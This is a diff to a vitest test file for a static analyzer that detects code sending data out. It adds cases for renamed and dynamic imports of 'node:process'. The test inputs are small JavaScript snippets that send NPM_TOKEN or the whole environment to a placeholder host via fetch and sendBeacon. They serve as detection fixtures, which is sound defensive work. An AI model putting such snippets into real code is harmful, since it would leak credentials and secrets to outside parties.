@@ -3,7 +3,7 @@ import { describe, expect, it } from 'vitest';
 import { analyzeFile } from '../../src/behavior/analyze-file.ts';
 
 function sent(text: string): string[] {
-  return analyzeFile(text, 'index.js')
+  return analyzeFile(text, /^import /.test(text) ? 'index.mjs' : 'index.js')
     .fns.flatMap(({ behaviors }) => behaviors)
     .filter(({ kind }) => kind === 'disclosure')
     .map(({ detail, carries = [] }) => `${carries.map(({ sort, name }) => `${sort} ${name}`).join(', ')} → ${detail}`);
@@ -67,6 +67,16 @@ describe('what is sent', () => {
       'by destructuring',
       `const { NPM_TOKEN: found } = process.env;\nnavigator.sendBeacon('https://a.invalid/', found);`,
       ['credential NPM_TOKEN → https://a.invalid/'],
+    ],
+    [
+      'of the whole environment, by the name it is imported under',
+      `import { env as own } from 'node:process';\nfetch('https://a.invalid/', { body: Object.entries(own).join() });`,
+      ['credential process.env → https://a.invalid/'],
+    ],
+    [
+      'of the whole environment, taken out of what is imported when it is needed',
+      `(async () => { const { env } = await import('node:process');\nfetch('https://a.invalid/', { body: JSON.stringify(env) }); })();`,
+      ['credential process.env → https://a.invalid/'],
     ],
     [
       'in the text of a command',
